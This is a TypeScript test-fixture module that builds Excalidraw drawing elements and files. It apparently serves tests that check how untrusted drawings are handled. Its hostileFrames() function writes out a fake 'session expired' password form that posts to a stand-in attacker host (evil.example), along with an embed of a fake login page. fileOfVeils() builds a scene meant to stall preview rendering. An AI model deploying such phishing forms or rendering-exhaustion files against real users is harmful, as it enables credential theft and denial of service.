// Hand-built scenes for tests: the fields every Excalidraw element carries, with the values the
// editor gives a new shape. Tests spread these and set what they are about.

import { EDGE_HEADS, EDGE_LINES } from "../../diagram/drawing/spec.ts";

export const ELEMENT_DEFAULTS = {
  angle: 0,
  strokeColor: "#1e1e1e",
  backgroundColor: "transparent",
  fillStyle: "solid",
  strokeWidth: 2,
  strokeStyle: "solid",
  roughness: 1,
  opacity: 100,
  roundness: null,
  seed: 1,
  version: 1,
  versionNonce: 1,
  isDeleted: false,
  groupIds: [] as string[],
  frameId: null,
  updated: 1735689600000,
  link: null,
  locked: false,
};

/** An image element 100 px square at the origin, showing file `fileId`, as the editor saves it. */
export function imageElement(id: string, fileId: string, index = "a0") {
  return {
    ...ELEMENT_DEFAULTS,
    id,
    type: "image",
    x: 0,
    y: 0,
    width: 100,
    height: 100,
    index,
    boundElements: null,
    fileId,
    status: "saved",
    scale: [1, 1],
    crop: null,
  };
}

/** What the editor gives a label bound to a shape (Excalifont 20, centred). */
export const BOUND_TEXT_DEFAULTS = {
  fontSize: 20,
  fontFamily: 5,
  textAlign: "center",
  verticalAlign: "middle",
  lineHeight: 1.25,
  autoResize: true,
};

/** An .excalidraw file holding one free text element, as the editor saves it. */
export function fileWithNote(text: string) {
  return {
    type: "excalidraw",
    version: 2,
    source: "test",
    elements: [{
      ...ELEMENT_DEFAULTS,
      ...BOUND_TEXT_DEFAULTS,
      id: "note",
      type: "text",
      x: 40,
      y: 40,
      width: 260,
      height: 25,
      index: "a0",
      boundElements: null,
      text,
      originalText: text,
      containerId: null,
    }],
    appState: { viewBackgroundColor: "#ffffff", gridSize: 20 },
    files: {},
  };
}

/**
 * What the outside probe drew: an `iframe` element whose generated HTML Excalidraw would show as
 * a page inside the drawing, and an embed of a page on a site the editor does not embed.
 */
export function hostileFrames() {
  const html = '<form action="https://evil.example/">Session expired, sign in' +
    '<input type="password" name="p"></form>';
  const box = { ...ELEMENT_DEFAULTS, x: 0, y: 0, width: 300, height: 200, boundElements: null };
  return [
    {
      ...box,
      id: "phish",
      type: "iframe",
      index: "b0",
      customData: { generationData: { status: "done", html } },
    },
    { ...box, id: "embed", type: "embeddable", index: "b1", link: "https://evil.example/login" },
  ];
}

/**
 * Spec edges from `from` to `to` drawn every way a spec can ask: each line with each start head,
 * the end heads rotating, so every pair of values occurs.
 */
export function everyEdgeStyle(from: string, to: string) {
  return EDGE_LINES.flatMap((line, lineIndex) =>
    EDGE_HEADS.map((start, headIndex) => ({
      from,
      to,
      line,
      start,
      end: EDGE_HEADS[(lineIndex + headIndex) % EDGE_HEADS.length],
    }))
  );
}

/**
 * An .excalidraw file of `count` semi-transparent filled rectangles, each covering the whole
 * drawing: resvg draws every one as a layer of its own, about 90 ms each at 1,600 px, so a few
 * hundred make a preview that would take half a minute.
 */
export function fileOfVeils(count: number) {
  return {
    type: "excalidraw",
    version: 2,
    source: "test",
    elements: Array.from({ length: count }, (_, i) => ({
      ...ELEMENT_DEFAULTS,
      id: `veil-${i}`,
      type: "rectangle",
      x: i,
      y: i,
      width: 1600,
      height: 1000,
      backgroundColor: "#a5d8ff",
      opacity: 50,
      boundElements: null,
    })),
    appState: { viewBackgroundColor: "#ffffff", gridSize: 20 },
    files: {},
  };
}
